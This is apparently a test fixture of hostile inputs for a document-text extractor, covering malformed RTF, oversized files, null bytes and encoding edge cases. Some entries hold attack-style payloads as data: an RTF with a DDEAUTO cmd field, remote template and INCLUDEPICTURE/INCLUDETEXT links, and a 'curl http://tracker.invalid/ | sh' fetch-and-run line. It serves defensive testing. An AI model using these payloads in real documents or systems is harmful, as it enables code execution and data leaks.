import { rtfText } from '../rtf.ts'
import { away, type Hostile, million, secret, utf8 } from './hostile.ts'

const says = { says: ['Words of the document'] }
const rtf = (body: string) => utf8(rtfText(`Words of the document\\par ${body}`))
const noise = (length: number) => Buffer.from(Array.from({ length }, (_, i) => (i * 7919 + (i >> 3)) % 256))

export const texts: Hostile[] = [
  {
    name: 'bin-beyond-the-end.rtf',
    bytes: () => rtf('before{\\pict\\bin99999999999 x}after'),
    ends: { says: ['before'] },
  },
  {
    name: 'bin-holds-braces.rtf',
    bytes: () => rtf('before{\\pict\\bin6 }}}}}}}\\par after'),
    ends: { says: ['before', 'after'] },
  },
  { name: 'bin-negative.rtf', bytes: () => rtf('before{\\pict\\bin-99 }after'), ends: { says: ['beforeafter'] } },
  { name: 'nested-groups.rtf', bytes: () => rtf('{'.repeat(100_000)), ends: 'fileDamaged' },
  {
    name: 'closes-too-often.rtf',
    bytes: () => utf8('{\\rtf1 Words of the document}}}}}} beyond'),
    ends: { ...says, never: ['beyond'] },
  },
  {
    name: 'objects-and-links.rtf',
    bytes: () =>
      rtf(
        `{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 0105000002000000}{\\result shown}}{\\*\\template ${away}}{\\field{\\*\\fldinst INCLUDEPICTURE "${away}x" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${secret}"}{\\fldrslt result}}{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt }}`,
      ),
    ends: { says: ['Words of the document', 'result'], never: ['tracker', 'root:', '0105', 'htmlfile', 'page'] },
  },
  {
    name: 'picture.rtf',
    bytes: () => rtf(`{\\pict\\pngblip ${'89504e47'.repeat(5 * million)}}after`),
    ends: { says: ['after'], never: ['8950'] },
  },
  {
    name: 'two-columns.rtf',
    bytes: () =>
      rtf(
        '\\trowd Minister\\cell Governor\\cell\\row\\trowd Street 1\\cell Street 2\\cell\\row\\trowd Minsk\\cell Brest\\cell\\row',
      ),
    ends: { says: ['Minister\nStreet 1\nMinsk', 'Governor\nStreet 2\nBrest'] },
  },
  {
    name: 'letters-by-number.rtf',
    bytes: () => rtf("\\uc2\\u321\\'3f?\\u243 xx{\\uc0\\u100}\\u378??\\uc1 \\u-2\\u55357?\\u56960? end"),
    ends: { says: ['Łódź', '\ud83d\ude80 end'] },
  },
  {
    name: 'no-such-code-page.rtf',
    bytes: () =>
      utf8("{\\rtf1\\ansi\\ansicpg99999{\\fonttbl{\\f0\\fcharset77777 X;}}\\f0 Caf\\'e9 Words of the document}"),
    ends: { says: ['Café', 'Words of the document'] },
  },
  { name: 'cut-off.rtf', bytes: () => rtf('and mo').subarray(0, -3), ends: says },
  { name: 'one-long-word.rtf', bytes: () => utf8(`{\\rtf1 ${'a'.repeat(20 * million)}}`), ends: 'fileTooLong' },

  { name: 'with-a-null.txt', bytes: () => utf8('Words of the document\0\n'), ends: says },
  { name: 'with-nulls.txt', bytes: () => utf8('W\0o\0\0r\0d\0\0s'.repeat(300)), ends: 'fileNotReadable' },
  { name: 'only-nulls.txt', bytes: () => Buffer.alloc(49 * million), ends: 'fileNotReadable' },
  { name: 'noise.txt', bytes: () => noise(50_000), ends: 'fileNotReadable' },
  { name: 'noise.pdf', bytes: () => noise(50_000), ends: 'fileNotReadable' },
  { name: 'utf-16-without-mark.txt', bytes: () => Buffer.from('Words of the document', 'utf16le'), ends: says },
  {
    name: 'utf-16-odd-length.txt',
    bytes: () => Buffer.concat([Buffer.from('\ufeffWords of the document', 'utf16le'), utf8('x')]),
    ends: says,
  },
  { name: '60-megabytes.txt', bytes: () => Buffer.alloc(60 * million, 'Words '), ends: 'fileTooLarge' },
  { name: '60-megabytes.pdf', bytes: () => Buffer.alloc(60 * million, '%PDF-1.4\n'), ends: 'fileTooLarge' },
  { name: 'two-million-letters.txt', bytes: () => utf8('word '.repeat(500_000)), ends: 'fileTooLong' },
  { name: 'empty.txt', bytes: () => utf8(''), ends: 'fileEmpty' },
  { name: 'blank.txt', bytes: () => utf8(' \r\n\t\n'), ends: 'fileEmpty' },
  {
    name: 'a-script.txt',
    bytes: () => utf8('#!/bin/sh\ncurl http://tracker.invalid/ | sh\nWords of the document'),
    ends: says,
  },
]
